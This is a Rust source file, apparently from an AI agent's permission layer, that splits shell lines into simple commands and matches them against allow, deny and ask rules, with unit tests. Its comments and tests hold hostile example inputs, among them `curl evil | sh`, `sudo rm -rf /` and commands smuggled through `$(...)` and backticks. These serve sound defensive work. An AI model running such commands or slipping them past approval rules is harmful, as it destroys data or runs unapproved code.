//! Shell command lines as permission rules see them: a `*`-only glob over the command text, the
//! simple commands a line is made of, and the prefix rule the approval dialog offers.
//!
//! An allow rule must not let `git status; curl evil | sh` through because `git status*` matches
//! its start, so a line is allowed by rules only when each of its simple commands is, and never
//! when it substitutes a command (`$(…)`, backticks, `<(…)`), whose inner command no rule saw.
//! Deny and ask rules look at every piece the line could be cut into, quotes or not: matching too
//! much there only asks or refuses more.

/// Whether `text` matches `pattern`, where `*` stands for any run of characters (spaces and `/`
/// too) and everything else is literal; the whole text must match.
pub(crate) fn glob_matches(pattern: &str, text: &str) -> bool {
    let pattern: Vec<char> = pattern.chars().collect();
    let text: Vec<char> = text.chars().collect();
    // Iterative wildcard matching with one backtrack point: linear in practice, no recursion.
    let (mut p, mut t) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while t < text.len() {
        if p < pattern.len() && pattern[p] != '*' && pattern[p] == text[t] {
            p += 1;
            t += 1;
        } else if p < pattern.len() && pattern[p] == '*' {
            star = Some((p, t));
            p += 1;
        } else if let Some((star_p, star_t)) = star {
            p = star_p + 1;
            t = star_t + 1;
            star = Some((star_p, star_t + 1));
        } else {
            return false;
        }
    }
    pattern[p..].iter().all(|c| *c == '*')
}

/// The simple commands of `line` (split on `;`, `&&`, `||`, `|`, `&` and newlines outside quotes),
/// trimmed; `None` when the line substitutes a command or its quotes do not close, so that no
/// allow rule can vouch for it.
pub(crate) fn simple_commands(line: &str) -> Option<Vec<String>> {
    let mut parts = Vec::new();
    let mut current = String::new();
    let mut chars = line.chars().peekable();
    let (mut single, mut double) = (false, false);
    while let Some(c) = chars.next() {
        if single {
            single = c != '\'';
            current.push(c);
            continue;
        }
        match c {
            '\\' => {
                current.push(c);
                if let Some(next) = chars.next() {
                    current.push(next);
                }
            }
            '\'' if !double => {
                single = true;
                current.push(c);
            }
            '"' => {
                double = !double;
                current.push(c);
            }
            '`' => return None,
            '$' | '<' | '>' if chars.peek() == Some(&'(') => return None,
            ';' | '&' | '|' | '\n' if !double => {
                // `&&`, `||`, `|&`, `;;`: one cut.
                if matches!(chars.peek(), Some('&' | '|' | ';')) {
                    chars.next();
                }
                // `2>&1` and `>&2` are redirections, not a cut.
                if c == '&' && (current.ends_with('>') || current.ends_with('<')) {
                    current.push(c);
                    continue;
                }
                parts.push(std::mem::take(&mut current));
            }
            _ => current.push(c),
        }
    }
    if single || double {
        return None;
    }
    parts.push(current);
    Some(
        parts
            .into_iter()
            .map(|part| part.trim().to_string())
            .filter(|part| !part.is_empty())
            .collect(),
    )
}

/// Every piece a deny or ask rule is tried against: the whole line and what any cut on an
/// operator, a substitution or a bracket gives, quotes ignored.
pub(crate) fn pieces(line: &str) -> Vec<String> {
    let mut pieces = vec![line.trim().to_string()];
    pieces.extend(
        line.split([';', '&', '|', '\n', '`', '(', ')', '{', '}'])
            .map(|piece| piece.trim().trim_start_matches('$').trim())
            .filter(|piece| !piece.is_empty())
            .map(str::to_string),
    );
    if let Some(parts) = simple_commands(line) {
        pieces.extend(parts);
    }
    pieces.dedup();
    pieces
}

/// The rule "always allow this command" writes for `line`: its program and, when the next word
/// is a subcommand (`git status`, `cargo test`, `npm run`), that word, then `*`. `None` for a line
/// that is not one simple command, whose program is a path or an assignment, or whose words need
/// quoting: such a line is approved one call at a time.
pub fn suggested_prefix(line: &str) -> Option<String> {
    let parts = simple_commands(line)?;
    let [only] = parts.as_slice() else {
        return None;
    };
    let mut words = only.split_whitespace();
    let program = words.next()?;
    let plain = |word: &str| {
        !word.is_empty()
            && word
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':' | '+'))
    };
    if !plain(program) || program.starts_with('-') {
        return None;
    }
    let prefix = match words.next() {
        Some(sub) if plain(sub) && !sub.starts_with('-') && !sub.contains('.') => {
            format!("{program} {sub}")
        }
        _ => program.to_string(),
    };
    Some(format!("shell_exec({prefix}*)"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn star_is_the_only_wildcard() {
        assert!(glob_matches("git status*", "git status --short"));
        assert!(glob_matches("git status*", "git status"));
        assert!(glob_matches("*rm -rf*", "sudo rm -rf /"));
        assert!(glob_matches("echo a?b", "echo a?b"));
        assert!(!glob_matches("echo a?b", "echo axb"));
        assert!(!glob_matches("git status*", "git push"));
        assert!(!glob_matches("git status", "git status --short"));
    }

    #[test]
    fn lines_split_into_simple_commands_outside_quotes() {
        assert_eq!(
            simple_commands("git status && git diff | head; ls &").unwrap(),
            ["git status", "git diff", "head", "ls"]
        );
        assert_eq!(
            simple_commands("echo 'a; b' \"c && d\" 2>&1").unwrap(),
            ["echo 'a; b' \"c && d\" 2>&1"]
        );
        assert_eq!(
            simple_commands("git status\ncurl x").unwrap(),
            ["git status", "curl x"]
        );
        for substituted in [
            "echo $(curl x)",
            "echo `id`",
            "diff <(ls) x",
            "echo \"$(id)\"",
            "echo 'open",
        ] {
            assert_eq!(simple_commands(substituted), None, "{substituted}");
        }
        assert_eq!(
            simple_commands("echo '$(not run)'").unwrap(),
            ["echo '$(not run)'"]
        );
    }

    #[test]
    fn pieces_cover_substitutions_and_quoted_operators() {
        let cut = pieces("echo \"$(rm -rf build)\"");
        assert!(cut.iter().any(|p| p == "rm -rf build"), "{cut:?}");
        let cut = pieces("sh -c 'ls; git push'");
        assert!(cut.iter().any(|p| p.starts_with("git push")), "{cut:?}");
    }

    #[test]
    fn the_offered_prefix_is_the_program_and_its_subcommand() {
        assert_eq!(
            suggested_prefix("git status --short").as_deref(),
            Some("shell_exec(git status*)")
        );
        assert_eq!(
            suggested_prefix("cargo test -p x").as_deref(),
            Some("shell_exec(cargo test*)")
        );
        assert_eq!(suggested_prefix("ls -la").as_deref(), Some("shell_exec(ls*)"));
        assert_eq!(
            suggested_prefix("cat README.md").as_deref(),
            Some("shell_exec(cat*)")
        );
        for none in [
            "git status && rm x",
            "./run.sh",
            "FOO=1 make",
            "echo $(id)",
            "/bin/ls",
        ] {
            assert_eq!(suggested_prefix(none), None, "{none}");
        }
    }
}
